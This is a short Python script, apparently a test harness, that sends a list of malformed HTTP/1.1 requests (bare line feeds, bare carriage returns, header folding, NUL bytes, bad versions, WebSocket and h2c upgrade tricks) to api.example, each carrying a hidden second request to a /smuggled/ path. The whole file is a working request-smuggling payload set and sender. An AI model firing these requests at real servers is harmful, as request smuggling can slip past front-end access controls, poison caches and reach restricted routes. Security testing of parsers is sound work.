from rows import connect, each, mark, talk

# The server that these are for reads a Content-Length as it can, and what stands behind a request is the next one.
REQUESTS = {
    "bare-lf": ("GET /public/x HTTP/1.1\nHost: api.example\n\n", "!"),
    "bare-lf-in-field": ("GET /public/x HTTP/1.1\r\n@X: y\n\n", "!\r\n"),
    "bare-lf-end": ("GET /public/x HTTP/1.1\r\n@\n", "!"),
    "bare-cr": ("GET /public/x HTTP/1.1\r\n@X: y\rZ: z\r\n\r\n", "!"),
    "fold": ("GET /public/x HTTP/1.1\r\n@X: y\r\n z\r\n\r\n", "!"),
    "fold-first": ("GET /public/x HTTP/1.1\r\n X: y\r\n@\r\n", "!"),
    "nul": ("GET /public/x HTTP/1.1\r\n@X: y\0z\r\n\r\n", "!"),
    "no-colon": ("GET /public/x HTTP/1.1\r\n@X\r\n\r\n", "!"),
    "empty-name": ("GET /public/x HTTP/1.1\r\n@: y\r\n\r\n", "!"),
    "space-in-name": ("GET /public/x HTTP/1.1\r\n@X Y: z\r\n\r\n", "!"),
    "version": ("GET /public/x HTTP/1.9\r\n@\r\n", "!"),
    "two-versions": ("GET /public/x HTTP/1.1 HTTP/1.1\r\n@\r\n", "!"),
    "expect": ("GET /public/x HTTP/1.1\r\n@Expect: 100-continue\r\nContent-Length: 0\r\n\r\n", "!"),
    "upgrade-websocket": ("GET /public/x HTTP/1.1\r\n@Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n", "!"),
    "upgrade-bad-version": ("GET /public/x HTTP/1.1\r\n@Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 1\r\n\r\n", "!"),
    "upgrade-clear-http2": ("GET /public/x HTTP/1.1\r\n@Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", "!"),
    "connection-close-hidden": ("GET /public/x HTTP/1.1\r\n@Connection: keep-alive, host\r\n\r\n", "!"),
}


def smuggle(row):
    hidden = f"GET /smuggled/{mark(row)} HTTP/1.1\r\nHost: api.example\r\n\r\n"
    start, rest = REQUESTS[row]
    talk(connect("api.example", 80), start.replace("@", "Host: api.example\r\n").replace("#", str(len(hidden))) + rest.replace("!", hidden), 0.4)


each(smuggle)
